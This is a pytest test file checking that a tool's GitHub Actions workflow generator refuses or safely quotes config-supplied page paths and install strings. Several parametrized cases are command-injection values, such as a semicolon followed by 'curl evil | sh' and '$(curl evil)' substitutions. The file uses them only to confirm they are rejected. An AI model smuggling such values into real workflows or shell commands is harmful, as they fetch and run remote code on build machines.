"""`init --github` pastes config strings into YAML and bash (issue 21 item 6, and item 7's token).

A page path, the config path or `--install` could add steps or run commands; a page path with
a space was split by bash and silently never committed. Paths are checked against a safe set
and shell-quoted where bash reads them, `--install` is refused when it could leave its quotes,
the result is linted, and the commit step is run for real on a page path with a space.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
import yaml
from test_scaffold import lint

from watcher.config.load import load_config
from watcher.core.errors import WatcherError
from watcher.onboard.scaffold import smoke_workflow, watch_workflow

ROOT = Path(__file__).resolve().parents[2]


def config(tmp_path: Path, *, output: str = "docs/engines/SGLANG.md", notify=False, gha=False):
    text = (ROOT / "watch.toml").read_text()
    text = text.replace('output = "docs/engines/SGLANG.md"', f"output = {output!r}", 1)
    if notify:
        text = text.replace(
            "[notify]\nenabled = false\n", '[notify]\nenabled = true\nrepo = "o/guide"\nissue = 1\n'
        )
    if gha:
        text = text.replace(
            '[smoke]\nbackend = "local"\n',
            '[smoke]\nbackend = "github-actions"\nrepo = "o/guide"\n',
        )
    (tmp_path / "watch.toml").write_text(text)
    return load_config(tmp_path / "watch.toml")


def commit_step(workflow: str) -> str:
    steps = yaml.safe_load(workflow)["jobs"]["check"]["steps"]
    return next(s["run"] for s in steps if s.get("name") == "Commit the state and the pages")


def test_a_page_path_with_a_space_is_committed(tmp_path):
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    guide = tmp_path / "guide"
    subprocess.run(["git", "clone", "-q", str(remote), str(guide)], check=True, capture_output=True)
    cfg = config(guide, output="docs/my page.md")
    workflow = watch_workflow(cfg, guide)
    (guide / "data").mkdir()
    (guide / "data" / "watcher.db").write_bytes(b"SQLite format 3\0")
    (guide / "docs").mkdir()
    (guide / "docs" / "my page.md").write_text("# page\n")
    env = dict(os.environ, RUNNER_TEMP=str(tmp_path), HOME=str(tmp_path))
    run = subprocess.run(
        ["bash", "-c", commit_step(workflow)], cwd=guide, env=env, capture_output=True, text=True
    )
    assert run.returncode == 0, run.stdout + run.stderr
    files = subprocess.run(
        ["git", "show", "--name-only", "--format=", "HEAD"],
        cwd=guide,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    assert "docs/my page.md" in files, files
    repo = tmp_path / "lint"
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / ".github" / "workflows" / "watch.yml").write_text(workflow)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    lint(repo)


@pytest.mark.parametrize(
    "output",
    [
        "docs/x.md; curl evil | sh",
        "docs/$(touch pwned).md",
        "docs/`id`.md",
        'docs/a".md',
        "a\nb.md",
    ],
)
def test_a_page_path_that_could_run_commands_is_refused(tmp_path, output):
    try:
        cfg = config(tmp_path, output=output)
    except Exception:  # the config itself refused it: nothing to paste
        return
    with pytest.raises(
        WatcherError, match=r"\[page.sglang\] output .* cannot go into the workflow"
    ):
        watch_workflow(cfg, tmp_path)


@pytest.mark.parametrize(
    "install",
    [
        'watcher" ; curl evil | sh ; "',
        "watcher $(curl evil)",
        "watcher `id`",
        "watcher\n      - run: evil",
        "watcher #\n",
        "watcher \\",
    ],
)
def test_an_install_that_could_leave_its_quotes_is_refused(tmp_path, install):
    cfg = config(tmp_path)
    with pytest.raises(WatcherError, match="cannot go into the workflow"):
        watch_workflow(cfg, tmp_path, install=install)
    with pytest.raises(WatcherError):
        smoke_workflow(cfg, tmp_path, install=install)


def test_real_install_requirements_pass():
    from watcher.onboard.scaffold import checked_install

    for ok in (
        ".",
        "watcher @ git+https://github.com/club-3090/watcher@v0.1.0",
        "watcher[test]>=0.1,<1",
        "git+https://example.com/w.git#egg=watcher",
    ):
        assert checked_install(ok) == ok


def test_the_token_is_given_only_to_the_step_that_polls(tmp_path):
    doc = yaml.safe_load(watch_workflow(config(tmp_path), tmp_path))
    job = doc["jobs"]["check"]
    assert "GITHUB_TOKEN" not in (job.get("env") or {})
    holders = [s.get("name") for s in job["steps"] if "GITHUB_TOKEN" in (s.get("env") or {})]
    assert holders == ["Run one cycle"]


@pytest.mark.parametrize(
    ("notify", "gha", "extra"),
    [
        (False, False, set()),
        (True, False, {"issues"}),
        (False, True, {"actions"}),
        (True, True, {"issues", "actions"}),
    ],
)
def test_each_permission_follows_its_own_setting(tmp_path, notify, gha, extra):
    doc = yaml.safe_load(watch_workflow(config(tmp_path, notify=notify, gha=gha), tmp_path))
    assert doc["permissions"] == {}  # each job names its own (the Pages deploy job apart)
    assert set(doc["jobs"]["check"]["permissions"]) == {"contents"} | extra
    assert set(doc["jobs"]["deploy"]["permissions"]) == {"pages", "id-token"}


def test_a_database_path_with_a_space_is_refused_by_name(tmp_path):
    """The database path sits inside a double-quoted git revision in the commit step, where no
    quoting can hold a space: refused with the key named, never pasted broken."""
    folder = tmp_path / "my guide"
    folder.mkdir()
    with pytest.raises(WatcherError, match="the database 'my guide/data/watcher.db'"):
        watch_workflow(config(folder), tmp_path)
